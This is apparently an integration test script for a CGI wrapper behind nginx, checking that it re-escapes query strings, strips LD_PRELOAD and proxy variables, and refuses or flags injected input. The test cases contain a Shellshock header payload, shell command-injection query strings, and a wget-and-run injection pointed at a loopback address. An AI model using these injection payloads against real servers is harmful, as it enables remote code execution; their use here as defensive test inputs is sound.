#!/bin/sh
# The validation table, seen from a script: an environment-dumping CGI
# behind the real nginx shows what each rule does.
. "${top_srcdir:-.}/tests/integration/lib.sh"

install_test_scripts
write_test_profile
cp "$CGIBIN/env.sh" "$CGIBIN/rawenv.sh"
cp "$CGIBIN/env.sh" "$CGIBIN/strictenv.sh"
cat > "$T/profiles/raw.conf" <<PROFILE
[profile]
match = $CGIBIN/rawenv.sh
[filesystem]
exec = /usr/bin/env /usr/bin/sort
[environment]
query = raw
PROFILE
cat > "$T/profiles/strict.conf" <<PROFILE
[profile]
match = $CGIBIN/strictenv.sh
[filesystem]
exec = /usr/bin/env /usr/bin/sort
[environment]
suspicious = reject
PROFILE
NGINX_EXTRA="
	large_client_header_buffers 4 64k;
	location /odd/ {
		include /etc/nginx/fastcgi_params;
		fastcgi_param SCRIPT_FILENAME $CGIBIN/env.sh;
		fastcgi_param bad-name yes;
		fastcgi_param LD_PRELOAD /tmp/evil.so;
		fastcgi_param GIT_PROJECT_ROOT /srv/git;
		fastcgi_pass unix:$SOCK;
	}
"
start_nginx
start_safecgi

envvar() { sed -n "s/^$1=//p" "$T/body"; }

s=$(http_status "$BASE/cgi-bin/env.sh?a=1;id&b=\$(id)&c=%41%zz")
check "query string is re-escaped canonically" \
    [ "$s" = 200 -a "$(envvar QUERY_STRING)" = 'a=1%3Bid&b=%24%28id%29&c=%41%25zz' ]
check "the query part of REQUEST_URI is re-escaped too" \
    [ "$(envvar REQUEST_URI)" = '/cgi-bin/env.sh?a=1%3Bid&b=%24%28id%29&c=%41%25zz' ]

s=$(http_status "$BASE/cgi-bin/rawenv.sh?a=1;id&b=\$(id)")
check "query = raw passes the original bytes" \
    [ "$s" = 200 -a "$(envvar QUERY_STRING)" = 'a=1;id&b=$(id)' ]

s=$(http_status "$BASE/cgi-bin/env.sh?q=caf%C3%A9+au+lait&page%5B1%5D=2")
check "a benign query keeps its meaning" \
    [ "$s" = 200 -a "$(envvar QUERY_STRING)" = 'q=caf%C3%A9+au+lait&page%5B1%5D=2' ]

s=$(http_status "$BASE/cgi-bin/env.sh" -H 'User-Agent: () { :; }; /bin/echo pwned')
check "Shellshock in a header is refused with 400" [ "$s" = 400 ]
check "Shellshock refusal is in the audit log" \
    audit_has request_refused variable HTTP_USER_AGENT

s=$(http_status "$BASE/cgi-bin/env.sh" -H 'Proxy: http://127.0.0.1:9/')
if [ "$s" = 200 ] && [ -z "$(envvar HTTP_PROXY)" ]
then
	ok "HTTP_PROXY is dropped"
else
	not_ok "HTTP_PROXY is dropped" "failed: [ \"\$s\" = 200 ] && [ -z \"\$(envvar HTTP_PROXY)\" ]"
fi

s=$(http_status "$BASE/odd/")
if [ "$s" = 200 ] && ! grep -q '^bad-name=' "$T/body"
then
	ok "a variable name outside [A-Z0-9_] is dropped"
else
	not_ok "a variable name outside [A-Z0-9_] is dropped" "failed: [ \"\$s\" = 200 ] && ! grep -q '^bad-name=' \"\$T/body\""
fi
if [ "$s" = 200 ] && [ -z "$(envvar LD_PRELOAD)" ]
then
	ok "LD_PRELOAD from a param never reaches the script"
else
	not_ok "LD_PRELOAD from a param never reaches the script" "failed: [ \"\$s\" = 200 ] && [ -z \"\$(envvar LD_PRELOAD)\" ]"
fi
check "custom params such as GIT_PROJECT_ROOT are passed" \
    [ "$(envvar GIT_PROJECT_ROOT)" = /srv/git ]

long=$(head -c 40000 /dev/zero | tr '\0' a)
s=$(http_status "$BASE/cgi-bin/env.sh" -H "X-Long: $long")
check "a value over its length limit is refused, not truncated" [ "$s" = 400 ]

s=$(http_status "$BASE/cgi-bin/env.sh?host=;wget\${IFS}http://127.0.0.1:9/x.sh;sh\${IFS}x.sh")
if [ "$s" = 200 ] && audit_has suspicious_input variable QUERY_STRING
then
	ok "suspicious input is reported but runs by default"
else
	not_ok "suspicious input is reported but runs by default" "failed: [ \"\$s\" = 200 ] && audit_has suspicious_input variable QUERY_STRING"
fi

s=$(http_status "$BASE/cgi-bin/strictenv.sh?host=;wget\${IFS}http://127.0.0.1:9/x.sh")
check "suspicious = reject refuses the request with 400" [ "$s" = 400 ]

s=$(http_status "$BASE/cgi-bin/env.sh?name=O%27Keefe&n=1%271%27000&text=rock+%26+roll")
if [ "$s" = 200 ] && ! grep -q 'O%27Keefe\|rock' "$AUDIT"
then
	ok "benign input is not flagged"
else
	not_ok "benign input is not flagged" "failed: [ \"\$s\" = 200 ] && ! grep -q 'O%27Keefe\\|rock' \"\$AUDIT\""
fi

done_testing
